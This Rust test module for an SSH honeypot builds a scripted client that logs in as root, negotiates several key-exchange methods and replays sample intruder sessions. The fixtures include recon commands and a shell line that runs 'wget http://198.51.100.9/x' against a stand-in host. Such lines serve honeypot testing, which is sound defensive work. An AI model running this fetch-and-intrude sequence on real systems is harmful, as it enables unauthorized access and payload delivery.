//! A client made of the trap's own parts: what it sends is kept, so that a whole talk can be held again.

use super::*;
use curve25519_dalek::MontgomeryPoint;
use ed25519_dalek::{Signature, Verifier, VerifyingKey};
use ml_kem::{Decapsulate, KeyExport, ml_kem_768::DecapsulationKey};
use p256::elliptic_curve::sec1::ToSec1Point;

/// Its secret numbers.
const SECRET: [u8; 32] = [9; 32];

pub(super) struct Client {
    session: SshSession,
    incoming: Incoming,
    outgoing: Outgoing,
    dice: Dice,
    lists: [&'static str; 4],
    zlib: &'static str,
    /// Everything it sent.
    pub(super) sent: Vec<u8>,
    pub(super) heard: Heard,
    line: Vec<u8>,
    server_offer: Vec<u8>,
    pub(super) session_id: Vec<u8>,
    /// Its clock.
    pub(super) now: honeymesh_types::WallTime,
    /// What the trap said was said, since the last report.
    kept: Vec<u8>,
    /// What came unasked.
    pub(super) unasked: Vec<Vec<u8>>,
}

/// A trap that lets the first password in.
pub(super) fn let_in() -> SshSession {
    Ssh::of(&persona()).letting_in(1).session(7)
}

pub(super) fn password(user: &str, password: &str) -> Vec<u8> {
    request(user, "password", |out| {
        out.push(0);
        put_string(out, password.as_bytes());
    })
}

pub(super) fn request(user: &str, method: &str, write: impl FnOnce(&mut Vec<u8>)) -> Vec<u8> {
    message(MSG_USERAUTH_REQUEST, |out| {
        [user, "ssh-connection", method].iter().for_each(|field| put_string(out, field.as_bytes()));
        write(out);
    })
}

pub(super) fn open_session() -> Vec<u8> {
    message(MSG_CHANNEL_OPEN, |out| {
        put_string(out, b"session");
        [5_u32, 2_000_000, 32_768].iter().for_each(|number| out.extend_from_slice(&number.to_be_bytes()));
    })
}

pub(super) fn channel_request(name: &str, write: impl FnOnce(&mut Vec<u8>)) -> Vec<u8> {
    message(MSG_CHANNEL_REQUEST, |out| {
        out.extend_from_slice(&[0; 4]);
        put_string(out, name.as_bytes());
        out.push(1);
        write(out);
    })
}

pub(super) fn data(bytes: &[u8]) -> Vec<u8> {
    message(MSG_CHANNEL_DATA, |out| {
        out.extend_from_slice(&[0; 4]);
        put_string(out, bytes);
    })
}

/// Whole talks, as bytes.
pub(super) fn talk(number: usize) -> Vec<u8> {
    let mut client = Client::of(let_in(), LISTS, if number == 3 { "zlib@openssh.com" } else { "none" });
    client.begin_login();
    if number > 0 {
        client.ask(&password("root", "a"));
        client.ask(&open_session());
    }
    match number {
        2 => drop(client.ask(&channel_request("exec", |out| put_string(out, b"uname -a; cat /proc/cpuinfo; nosuch")))),
        3 => {
            client.ask(&channel_request("pty-req", |out| put_string(out, b"xterm")));
            client.ask(&channel_request("shell", |_| {}));
            client.ask(&data(b"id\rwget http://198.51.100.9/x\rexit\r"));
        }
        _ => {}
    }
    client.sent
}

pub(super) fn any_message() -> impl Strategy<Value = Vec<u8>> {
    let number = prop_oneof![Just(0_u32), Just(1), Just(u32::MAX), any::<u32>()];
    prop_oneof![
        Just(password("root", "a")),
        Just(request("root", "none", |_| {})),
        Just(open_session()),
        Just(channel_request("pty-req", |out| put_string(out, b"xterm"))),
        Just(channel_request("shell", |_| {})),
        Just(channel_request("exec", |out| put_string(out, b"cat /proc/cpuinfo; cat > x"))),
        Just(data(&b"cat /proc/cpuinfo\n\n\n\r\r\r".repeat(300))),
        Just(data(&[b'\n'; 30_000])),
        Just(data(&[b'x'; 9_000])),
        number.prop_map(
            |bytes| message(MSG_CHANNEL_WINDOW_ADJUST, |out| out.extend_from_slice(&[[0; 4], bytes.to_be_bytes()].concat()))
        ),
        (any::<u8>(), proptest::collection::vec(any::<u8>(), 0..60)).prop_map(|(kind, body)| [vec![kind], body].concat()),
        (90_u8..100, proptest::collection::vec(any::<u8>(), 0..60))
            .prop_map(|(kind, body)| [vec![kind, 0, 0, 0, 0], body].concat()),
    ]
}

impl Client {
    /// What the trap keeps of all that was sent.
    pub(super) fn said(&mut self) -> Vec<u8> {
        let told = self.heard.reports.iter().flat_map(|(_, said)| said.clone());
        told.chain(core::mem::take(&mut self.kept)).collect()
    }

    pub(super) fn of(session: SshSession, lists: [&'static str; 4], zlib: &'static str) -> Self {
        Self::marked(session, lists, "", zlib)
    }

    /// The first exchange is done; `mark` stands behind its methods.
    pub(super) fn marked(session: SshSession, lists: [&'static str; 4], mark: &str, zlib: &'static str) -> Self {
        let mut client = Self {
            session,
            incoming: Incoming::default(),
            outgoing: Outgoing::default(),
            dice: Dice::new(&[3; 32], 1),
            lists,
            zlib,
            sent: Vec::new(),
            heard: Heard::default(),
            line: Vec::new(),
            server_offer: Vec::new(),
            session_id: Vec::new(),
            now: NOW,
            kept: Vec::new(),
            unasked: Vec::new(),
        };
        let mut greeting = Vec::new();
        let _ = client.session.open(&mut greeting);
        client.line = greeting.trim_ascii_end().to_vec();
        client.server_offer = client.feed(HELLO).remove(0);
        client.exchange(mark);
        client
    }

    pub(super) fn packet(&mut self, payload: &[u8]) -> Vec<u8> {
        let mut packet = Vec::new();
        self.outgoing.send(payload, &mut self.dice, &mut packet);
        packet
    }

    /// Sends a message; the messages that answer it.
    pub(super) fn ask(&mut self, payload: &[u8]) -> Vec<Vec<u8>> {
        let packet = self.packet(payload);
        self.feed(&packet)
    }

    pub(super) fn feed(&mut self, bytes: &[u8]) -> Vec<Vec<u8>> {
        self.sent.extend_from_slice(bytes);
        let (mut answer, mut rest) = (Vec::new(), bytes);
        while !rest.is_empty() && self.heard.flow != Flow::Close {
            let step = self.session.receive(rest, self.now, &mut answer);
            rest = &rest[step.taken..];
            let pause = self.session.pause();
            self.heard.pauses.extend((pause.ms > 0).then_some((pause.at, pause.ms)));
            self.keep(step.flow);
            while let Some(flow) = self.session.resume(self.now, &mut answer) {
                self.keep(flow);
            }
        }
        self.payloads(&answer)
    }

    fn keep(&mut self, flow: Flow) {
        self.kept.extend(self.session.said().unwrap());
        if flow != Flow::Continue {
            self.heard.flow = flow;
            let found = self.session.findings();
            self.heard.findings.signs |= found.signs;
            self.heard.findings.fields.extend(found.fields.clone());
            self.heard.reports.push((found, core::mem::take(&mut self.kept)));
        }
    }

    /// The client is gone: what was still told, with what was captured for it.
    pub(super) fn leave(&mut self) -> (crate::Findings, Vec<u8>) {
        self.session.end();
        self.kept.extend(self.session.said().unwrap());
        (self.session.findings(), core::mem::take(&mut self.kept))
    }

    fn payloads(&mut self, answer: &[u8]) -> Vec<Vec<u8>> {
        let (mut payloads, mut rest) = (Vec::new(), answer);
        while !rest.is_empty() {
            let (taken, payload) = self.incoming.take(rest);
            rest = &rest[taken..];
            let Some(payload) = payload.unwrap() else { continue };
            // The new keys hold from here on: the test changes them before it reads on.
            if payload == [MSG_NEWKEYS] {
                payloads.push(payload);
                payloads.push(rest.to_vec());
                return payloads;
            }
            // From here on both sides pack.
            if payload == [MSG_USERAUTH_SUCCESS] && self.zlib != "none" {
                self.outgoing.pack();
                self.incoming.unpack();
            }
            payloads.push(payload);
        }
        payloads
    }

    /// An exchange of keys, the first or another; the host's signature is checked.
    pub(super) fn exchange(&mut self, mark: &str) {
        let ours = offer(self.lists, mark, self.zlib, false);
        if let Some(theirs) = self.ask(&ours).into_iter().find(|payload| payload[0] == MSG_KEXINIT) {
            self.server_offer = theirs;
        }
        let method = Method::named(self.lists[0].as_bytes()).unwrap();
        let half = self.half(method);
        let mut answers = self.ask(&message(MSG_KEX_INIT, |out| put_string(out, &half)));
        let (reply, behind) = (answers.remove(0), answers.pop().unwrap());
        let mut fields = Fields(&reply[1..]);
        let [key, public, signature] = [(); 3].map(|()| fields.string().unwrap());
        let shared = self.shared(method, public);
        let strings = [b"SSH-2.0-test", &self.line[..], &ours, &self.server_offer, key, &half, public];
        let hash = method.exchange_hash(strings, &shared);
        if self.lists[1] == "ssh-ed25519" {
            let signature = Signature::from_slice(&signature[signature.len() - 64..]).unwrap();
            VerifyingKey::from_bytes(key.last_chunk().unwrap()).unwrap().verify(&hash, &signature).unwrap();
        }
        if self.session_id.is_empty() {
            self.session_id.clone_from(&hash);
        }
        let agreed = kexinit::read(&ours).unwrap().agree(&HostKeys::of(&[1; 32])).unwrap();
        self.change(method, agreed.incoming, &shared, &hash, mark.contains("strict"));
        self.unasked = self.payloads(&behind);
    }

    fn change(&mut self, method: Method, suite: Suite, shared: &Shared, hash: &[u8], strict: bool) {
        let new_keys = self.packet(&[MSG_NEWKEYS]);
        assert!(self.feed(&new_keys).is_empty());
        let to = method.keys(suite, shared, hash, &self.session_id, *b"ACE").unwrap();
        let from = method.keys(suite, shared, hash, &self.session_id, *b"BDF").unwrap();
        self.outgoing.rekey(to, strict);
        self.incoming.rekey(from, strict);
    }

    fn half(&self, method: Method) -> Vec<u8> {
        let curve = MontgomeryPoint::mul_base_clamped(SECRET).to_bytes();
        match method {
            Method::X25519 => curve.to_vec(),
            Method::MlKem768X25519 => {
                let key = DecapsulationKey::from_seed([5; 64].into());
                [key.encapsulation_key().to_bytes().as_slice(), &curve].concat()
            }
            Method::P256 => p256::SecretKey::from_slice(&SECRET).unwrap().public_key().to_sec1_point(false).as_bytes().to_vec(),
            Method::P384 => p384::SecretKey::from_slice(&[9; 48]).unwrap().public_key().to_sec1_point(false).as_bytes().to_vec(),
            Method::P521 => {
                p521::SecretKey::from_slice(&p521_secret()).unwrap().public_key().to_sec1_point(false).as_bytes().to_vec()
            }
            Method::Sntrup761X25519 => panic!("only real clients make such a key"),
        }
    }

    fn shared(&self, method: Method, public: &[u8]) -> Shared {
        let x25519 = |public: &[u8]| MontgomeryPoint(public.try_into().unwrap()).mul_clamped(SECRET).to_bytes();
        let number = |secret: &[u8]| exchange::number(Vec::new(), secret);
        match method {
            Method::MlKem768X25519 => {
                let (ciphertext, curve) = public.split_at(1_088);
                let key = DecapsulationKey::from_seed([5; 64].into());
                let first = key.decapsulate(&ciphertext.try_into().unwrap());
                exchange::hybrid::<sha2::Sha256>(&[], &first, &[], &x25519(curve))
            }
            Method::P256 => {
                let theirs = p256::PublicKey::from_sec1_bytes(public).unwrap();
                number(p256::SecretKey::from_slice(&SECRET).unwrap().diffie_hellman(&theirs).raw_secret_bytes())
            }
            Method::P384 => {
                let theirs = p384::PublicKey::from_sec1_bytes(public).unwrap();
                number(p384::SecretKey::from_slice(&[9; 48]).unwrap().diffie_hellman(&theirs).raw_secret_bytes())
            }
            Method::P521 => {
                let theirs = p521::PublicKey::from_sec1_bytes(public).unwrap();
                number(p521::SecretKey::from_slice(&p521_secret()).unwrap().diffie_hellman(&theirs).raw_secret_bytes())
            }
            _ => number(&x25519(public)),
        }
    }

    /// Asks for the login service.
    pub(super) fn begin_login(&mut self) {
        let service = message(MSG_SERVICE_REQUEST, |out| put_string(out, b"ssh-userauth"));
        assert_eq!(self.ask(&service)[0][0], MSG_SERVICE_ACCEPT);
    }
}

fn p521_secret() -> [u8; 66] {
    let mut secret = [9; 66];
    secret[0] = 0;
    secret
}
